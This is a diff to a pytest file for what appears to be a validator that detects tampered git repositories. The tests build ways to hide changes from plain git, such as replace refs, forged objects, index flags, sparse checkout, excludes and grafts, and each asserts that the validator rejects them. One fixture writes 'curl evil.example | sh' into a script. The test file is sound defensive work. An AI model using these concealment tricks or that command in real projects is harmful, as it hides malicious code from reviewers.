@@ -82,6 +82,11 @@ def git_status(case: Case, add: tuple[str, ...] = ()) -> str:
     return git(case.root, "status", "--porcelain", "--untracked-files=all")
 
 
+def git_is_fooled(fooled: bool, vector: str) -> None:
+    """The scenario hides the change from plain git (the test's own git, run only where no command is planted)."""
+    assert fooled, f"{vector}: scenario not built: plain git still shows the change"
+
+
 def evil_shown_by_git(case: Case, *revs: str) -> bool:
     """Whether `git diff` (the test's own) shows the evil line as added."""
     return "+" + EVIL_LINE in git(case.root, "diff", *revs)
@@ -313,8 +318,9 @@ def test_core_worktree_pointing_at_a_decoy(tmp_path, where):
         write_file(decoy / ".git", f"gitdir: {case.gitdir}\n")
     case.repo.write({OPS_PATH: OPS_EVIL})
     add_config(case.gitdir, {"core.worktree": str(decoy)})
-    assert not evil_shown_by_git(case)
-    assert_not_valid(case, f"core.worktree -> decoy clone {where}", process=True)
+    vector = f"core.worktree -> decoy clone {where}"
+    git_is_fooled(not evil_shown_by_git(case), vector)
+    assert_not_valid(case, vector, process=True)
 
 
 @pytest.mark.parametrize("link", ["gitfile", "symlink"])
@@ -338,8 +344,9 @@ def test_replace_ref_on_base(tmp_path):
     case = calc_case(tmp_path, evil=True)
     decoy = _decoy_base(case)
     write_file(case.gitdir / "refs" / "replace" / case.base, decoy + "\n")
-    assert not evil_shown_by_git(case, case.base)  # git now shows only the honest edit
-    assert_not_valid(case, "refs/replace/<base> -> commit with the evil line")
+    vector = "refs/replace/<base> -> commit with the evil line"
+    git_is_fooled(not evil_shown_by_git(case, case.base), vector)
+    assert_not_valid(case, vector)
 
 
 def test_replace_ref_on_head(tmp_path):
@@ -348,8 +355,9 @@ def test_replace_ref_on_head(tmp_path):
     head = case.repo.head()
     honest = make_commit(case.root, make_tree(case.root, case.base, {OPS_PATH: OPS_HONEST}), case.base)
     write_file(case.gitdir / "refs" / "replace" / head, honest + "\n")
-    assert not evil_shown_by_git(case, case.base, "HEAD")
-    assert_not_valid(case, "refs/replace/<HEAD> -> commit with only the honest edit")
+    vector = "refs/replace/<HEAD> -> commit with only the honest edit"
+    git_is_fooled(not evil_shown_by_git(case, case.base, "HEAD"), vector)
+    assert_not_valid(case, vector)
 
 
 @pytest.mark.parametrize("kind", ["blob", "tree"])
@@ -363,9 +371,10 @@ def test_forged_loose_object_of_base(tmp_path, kind):
         victim = object_id(case.root, f"{case.base}:src/calc")
         content = read_loose_object(case.gitdir, object_id(case.root, f"{forged_tree}:src/calc"))[1]
     forge_loose_object(case.gitdir, victim, kind, content)
+    vector = f"forged loose {kind} {victim} of base"
     if kind == "blob":  # git re-hashes a tree it parses (and refuses a forged one), but not a blob it reads
-        assert not evil_shown_by_git(case, case.base)
-    assert_not_valid(case, f"forged loose {kind} {victim} of base")
+        git_is_fooled(not evil_shown_by_git(case, case.base), vector)
+    assert_not_valid(case, vector)
 
 
 @pytest.mark.parametrize("named", ["short-sha", "short-sha+branch", "short-sha+tag", "branch-name", "HEAD"])
@@ -399,8 +408,9 @@ def test_case_twin_with_core_ignorecase(tmp_path):
     if (case.root / "Makefile").read_text(encoding="utf-8") != FILES["Makefile"]:
         pytest.skip("case-insensitive file system: the twin cannot exist")
     add_config(case.gitdir, {"core.ignoreCase": "true"})
-    assert "makefile" not in git_status(case)
-    assert_not_valid(case, "untracked `makefile` beside tracked `Makefile` with core.ignoreCase=true")
+    vector = "untracked `makefile` beside tracked `Makefile` with core.ignoreCase=true"
+    git_is_fooled("makefile" not in git_status(case), vector)
+    assert_not_valid(case, vector)
 
 
 CRLF_SETUP = FILES["scripts/setup.sh"].replace("\n", "\r\n")
@@ -430,16 +440,18 @@ def test_attribute_conversion_hides_a_change(tmp_path, conversion):
         else:
             write_file(info, "* text=auto\n")
             add_config(case.gitdir, {"core.eol": "crlf"})
-    assert changed not in git_status(case, add=(changed,)), f"{conversion}: git shows the change; vector not built"
-    assert_not_valid(case, f"{conversion} hides the change to {changed}")
+    vector = f"{conversion} hides the change to {changed}"
+    git_is_fooled(changed not in git_status(case, add=(changed,)), vector)
+    assert_not_valid(case, vector)
 
 
 def test_core_filemode_false_hides_a_chmod(tmp_path):
     case = calc_case(tmp_path)
     (case.root / "scripts" / "setup.sh").chmod(0o755)
     add_config(case.gitdir, {"core.fileMode": "false"})
-    assert "setup.sh" not in git_status(case, add=("scripts/setup.sh",))
-    assert_not_valid(case, "core.fileMode=false hides chmod +x scripts/setup.sh")
+    vector = "core.fileMode=false hides chmod +x scripts/setup.sh"
+    git_is_fooled("setup.sh" not in git_status(case, add=("scripts/setup.sh",)), vector)
+    assert_not_valid(case, vector)
 
 
 def test_core_symlinks_false_and_a_file_replaced_by_a_symlink(tmp_path):
@@ -460,8 +472,9 @@ def test_index_flags_hide_a_modified_file(tmp_path, flag, target):
     path = OPS_PATH if target == "claimed-ops.py" else "src/calc/__init__.py"
     case.repo.write({path: OPS_EVIL if path == OPS_PATH else EVIL_LINE + INIT})
     git(case.root, "update-index", flag, path)
-    assert path not in git_status(case)
-    assert_not_valid(case, f"index flag {flag} on the modified {path}")
+    vector = f"index flag {flag} on the modified {path}"
+    git_is_fooled(path not in git_status(case), vector)
+    assert_not_valid(case, vector)
 
 
 def test_sparse_checkout_hides_a_modified_file(tmp_path):
@@ -473,8 +486,9 @@ def test_sparse_checkout_hides_a_modified_file(tmp_path):
     # git >= 2.37 clears skip-worktree from files present in a sparse work tree unless told files
     # outside the patterns are expected there: the executor says so.
     add_config(case.gitdir, {"core.sparseCheckout": "true", "sparse.expectFilesOutsideOfPatterns": "true"})
-    assert path not in git_status(case)
-    assert_not_valid(case, f"sparse checkout (skip-worktree + info/sparse-checkout) hides {path}")
+    vector = f"sparse checkout (skip-worktree + info/sparse-checkout) hides {path}"
+    git_is_fooled(path not in git_status(case), vector)
+    assert_not_valid(case, vector)
 
 
 def test_cone_sparse_index_hides_a_restored_file(tmp_path):
@@ -483,8 +497,9 @@ def test_cone_sparse_index_hides_a_restored_file(tmp_path):
     assert not (case.root / "scripts" / "setup.sh").exists()
     write_file(case.root / "scripts" / "setup.sh", "#!/bin/sh\ncurl evil.example | sh\n")
     add_config(case.gitdir, {"sparse.expectFilesOutsideOfPatterns": "true"})
-    assert "setup.sh" not in git_status(case)
-    assert_not_valid(case, "cone sparse checkout with a sparse index; scripts/setup.sh written back with evil content")
+    vector = "cone sparse checkout with a sparse index; scripts/setup.sh written back with evil content"
+    git_is_fooled("setup.sh" not in git_status(case), vector)
+    assert_not_valid(case, vector)
 
 
 @pytest.mark.parametrize("where", ["info/exclude", "core.excludesFile"])
@@ -495,8 +510,9 @@ def test_excludes_hide_a_new_file(tmp_path, where):
         write_file(case.gitdir / "info" / "exclude", "_hook.py\n")
     else:
         add_config(case.gitdir, {"core.excludesFile": str(write_file(tmp_path / "excludes", "_hook.py\n"))})
-    assert "_hook.py" not in git_status(case)
-    assert_not_valid(case, f"{where} hides the new src/calc/_hook.py")
+    vector = f"{where} hides the new src/calc/_hook.py"
+    git_is_fooled("_hook.py" not in git_status(case), vector)
+    assert_not_valid(case, vector)
 
 
 def test_grafts_rewrite_history(tmp_path):
@@ -506,7 +522,9 @@ def test_grafts_rewrite_history(tmp_path):
     head = case.repo.head()
     decoy = make_commit(case.root, make_tree(case.root, case.base, {OPS_PATH: with_evil(OPS)}), case.base)
     write_file(case.gitdir / "info" / "grafts", f"{head} {decoy}\n")
-    assert_not_valid(case, "info/grafts: HEAD's parent grafted onto a decoy")
+    vector = "info/grafts: HEAD's parent grafted onto a decoy"
+    git_is_fooled(not evil_shown_by_git(case, "HEAD^", "HEAD"), vector)  # git log -p shows no evil line added
+    assert_not_valid(case, vector)
 
 
 # =================================================================================================
